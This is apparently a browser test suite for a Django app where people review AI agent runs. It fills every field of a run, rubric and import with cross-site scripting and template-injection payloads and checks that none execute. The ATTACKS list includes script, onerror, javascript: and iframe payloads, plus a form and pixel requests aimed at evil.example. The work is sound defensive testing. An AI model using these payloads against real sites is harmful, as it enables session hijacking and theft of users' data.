"""What strangers wrote into a run, its task, its policy or its names is shown and never obeyed, in a real browser."""

import json

import pytest
from django.core.files.base import ContentFile
from playwright.sync_api import expect

from reviews.actions.previewing import preview_import
from reviews.actions.queueing import add_items, create_queue
from reviews.actions.rubrics import write_guideline, write_rubric
from reviews.models import ContextDocument, Task
from reviews.trajectories.schema import Attachment, Step, ToolCall, ToolResult
from tests import factories as make

pytestmark = pytest.mark.django_db(transaction=True)

ATTACKS = [
    "<script>owned('script')</script>",
    "<img src=x onerror=owned('img')>",
    "<svg/onload=owned('svg')><animate onbegin=owned('animate')>",
    "<a href=\"javascript:owned('link')\">click</a> [click](javascript:owned('markdown'))",
    "<iframe srcdoc=\"<script>parent.owned('frame')</script>\"></iframe>",
    "<a href='data:text/html,<script>owned(1)</script>'>x</a> ![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "</textarea></title></style></script>\"'><script>owned('break')</script>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "{{ 7*7 }} {% debug %} ${7*7} <%= 7*7 %> #{7*7}",
    "<div hx-get=/accounts/logout/ hx-trigger=load hx-on:click=owned('htmx')></div>",
    "<form id=judgment action=//evil.example/><input name=evidence></form>",
    "--><!--<x-y onfocus=owned('focus') autofocus tabindex=1>",
    "`<b onclick=owned(1)>` **<i onclick=owned(2)>** \x1b[31m<u onclick=owned(3)>\x1b[0m",
    "![pixel](https://evil.example/pixel.png) <img src=https://evil.example/pixel.png>",
]
SCRIPTS = [
    "\u202erevoked\u202c \u2066isolated \u202eand open",
    "مرحبا، أريد استرداد المبلغ A-5071 من فضلك",
    "我想要退款、订单号是 A-5071、谢谢。" * 20,
    "e\u0301\u0302\u0303" * 40 + "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "👩🏽‍🚀👍🏿🏳️‍🌈" * 30,
    "w" * 2_000,
]
WIDER_THAN_THEIR_PLACE = """[...document.querySelectorAll('.run, .context, .rubric-body')]
    .filter((place) => place.scrollWidth > place.clientWidth + 1)
    .map((place) => [place.className, ...[...place.querySelectorAll('*')]
        .filter((one) => one.getBoundingClientRect().right > place.getBoundingClientRect().right + 1)
        .map((one) => `${one.tagName}.${one.className}`)])"""
SIZES = {"desk": {"width": 1280, "height": 800}, "phone": {"width": 390, "height": 844}}


def step_of(text):
    """A call with the text in every place of it: names, keys, values, nested and flat, result and attachments."""
    arguments = {text[:90]: text, "nested": {text: [text, {"deep": text}]}}
    arguments |= {"old_str": f"{text}\nsame\n", "new_str": f"{text}{text}\nsame\n"}
    arguments |= {"edits": [{"old_string": text, "new_string": text * 2, text[:40]: text}]}
    return Step(
        role="tool",
        text=text,
        reasoning=text,
        call=ToolCall(id=text, name=text, arguments_text=json.dumps(arguments), arguments=arguments),
        result=ToolResult(text=json.dumps({text[:90]: text, "plain": text}), error=True),
        attachments=(Attachment(text, note=text, raw=json.dumps({"text": text})), Attachment("image", note=text)),
        note=text,
        pointer=text,
    )


def in_markdown(text):
    """The text in every place that Markdown, a diff, a patch and a terminal's colours give."""
    line = " ".join(text.split())
    marked = f"# {line}\n- {line}\n  1. {line}\n> {line}\n\n| {line} |\n|---|\n| {line} |\n\n```{line}\n{text}\n```\n"
    marked += f"```python\n{text}\n```\n[{line}]({line}) ![{line}]({line}) **{line}** `{line}` ~~{line}~~\n"
    diff = f"--- {line}\n+++ {line}\n@@ -1 +1 @@ {line}\n-{line}\n+{line}{line}\n {line}\n"
    patch = f"*** Begin Patch\n*** Update File: {line}\n-{line}\n+{line}x\n*** End Patch"
    colours = f"\x1b[38;5;196;48;2;9;9;200m{text}\x1b[7m{text}\x1b[0m"
    return [
        Step(role="agent", text=marked, reasoning=marked),
        *(Step(role="tool", result=ToolResult(text=result)) for result in (diff, patch, colours)),
    ]


def chat_of(text):
    """A row of chat with the text in every place that is read."""
    call = {"id": text, "type": "function", "function": {"name": text, "arguments": json.dumps({text: text})}}
    facts = {"title": text, "family": text, "environment": text, "policy": {"title": text, "text": text}}
    messages = [
        {"role": "user", "content": text},
        {"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": text, "content": text},
    ]
    return {"messages": messages, **facts}


def hostile_queue(project, texts):
    """Every text in every place of a run, its task, its tools, policy, rubric, guideline and queue."""
    everything = "\n".join(texts)
    steps = [step_of(text) for text in texts]
    steps += [step for text in texts for step in in_markdown(text)]
    steps += [Step(role=role, text=everything, reasoning=everything) for role in ("user", "agent", "system")]
    steps.append(Step(role="tool", result=ToolResult(text=everything)))
    tools = tuple({"name": text, "description": text, "parameters": {text: text}, "changes": text} for text in texts)
    item = make.item(project, steps=tuple(steps), tools=tools)
    policy = ContextDocument.objects.create(project=project, sha256="1" * 64, title=texts[0][:120], text=everything)
    Task.objects.filter(pk=item.trajectory.task_id).update(
        title=everything[:200],
        policy=policy,
        context={"request": everything, "requester": {text: [text, text] for text in texts}},
    )
    lead = make.lead_of(project)
    levels = [{"value": value, "name": texts[value][:40], "anchor": everything[:300]} for value in range(3)]
    criteria = [
        {"key": "authorised", "title": texts[1][:80], "question": everything[:300], "hint": texts[0], "kind": "gate"},
        {"key": "success", "title": texts[2][:80], "kind": "ordinal", "block": "process", "levels": levels},
    ]
    queue = create_queue(
        actor=lead,
        project=project,
        name=texts[0][:60],
        rubric=write_rubric(actor=lead, project=project, name=texts[0][:60], criteria=criteria),
        guideline=write_guideline(actor=lead, project=project, name=texts[1][:60], text=everything),
    )
    add_items(actor=lead, queue=queue, items=[item])
    return queue


@pytest.fixture
def watched(page):
    """The page, and everything on it that must not happen."""
    happened = []
    page.expose_function("owned", lambda what: happened.append(f"executed: {what}"))
    page.on("dialog", lambda dialog: happened.append(f"dialog: {dialog.message}"))
    page.on("console", lambda said: happened.append(said.text) if "Content Security Policy" in said.text else None)
    page.on("pageerror", lambda error: happened.append(f"error: {error}"))
    page.on("request", lambda request: happened.append(request.url) if "evil.example" in request.url else None)
    return page, happened


def walk(page, server, queue):
    """Open everything a rater can open of the item, and find, cite, filter and read raw on the way."""
    page.goto(f"{server.url}/queues/{queue.uid}/judge/")
    page.get_by_role("button", name="Start judging").press("Enter")
    page.wait_for_selector("#judgment .criterion.at")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    expect(page.locator(".tool-described").first).to_be_visible()
    for key in ("f", "e", "v", "V", "V", "d", "O", "O", "w", "a", "a", "a", "a", "?", "Escape", "/"):
        page.keyboard.press(key)
    page.keyboard.type("<s")
    page.wait_for_timeout(600)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Guideline").first.click()
    page.keyboard.press("Escape")


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("texts", [ATTACKS, SCRIPTS], ids=["attacks", "scripts"])
def test_nothing_a_run_says_is_obeyed_and_nothing_scrolls_sideways(
    transactional_db, live_server, sign_in, context, watched, texts, size
):
    page, happened = watched
    page.set_viewport_size(SIZES[size])
    project = make.project()
    queue = hostile_queue(project, texts)
    alice = make.expert(project, texts[0][:100])
    sign_in(context, alice)
    if size == "desk":
        walk(page, live_server, queue)
    else:
        page.goto(f"{live_server.url}/queues/{queue.uid}/judge/")
        page.get_by_role("button", name="Start judging").click()
        page.wait_for_selector("#judgment .criterion.at")
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        page.wait_for_timeout(500)
    assert page.evaluate("document.documentElement.scrollWidth") <= SIZES[size]["width"]
    assert page.evaluate(WIDER_THAN_THEIR_PLACE) == []
    assert (
        page.locator("main script, main iframe, main svg, main style, main form, main [onclick], main [hx-on]").count()
        == 0
    )
    assert happened == []


def test_a_lead_reads_the_same_run_unharmed(transactional_db, live_server, sign_in, context, watched):
    page, happened = watched
    project = make.project()
    queue = hostile_queue(project, ATTACKS)
    sign_in(context, make.lead_of(project))
    item = queue.queue_items.get().item
    page.goto(f"{live_server.url}/projects/{project.slug}/items/{item.uid}/")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    expect(page.locator(".tool-described").first).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert happened == []


def test_beside_another_run_and_before_it_is_imported_it_does_no_harm_either(
    transactional_db, live_server, sign_in, context, watched
):
    page, happened = watched
    project = make.project()
    lead = make.lead_of(project)
    sign_in(context, lead)
    left, right = (
        make.item(project, steps=tuple(step_of(text) for text in texts)) for texts in (ATTACKS, ATTACKS[::-1])
    )
    rows = "".join(json.dumps(chat_of(text)) + "\n" for text in ATTACKS)
    preview = preview_import(actor=lead, project=project, name="runs.jsonl", file=ContentFile(rows.encode()))
    base = f"{live_server.url}/projects/{project.slug}"
    for address in (f"/compare/?left={left.uid}&right={right.uid}", f"/imports/{preview.job.uid}/"):
        page.goto(base + address)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        assert "owned('script')" in page.locator("main").inner_text()
        assert page.locator("main script, main iframe, main svg, main style, main [onclick], main [hx-on]").count() == 0
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert happened == []
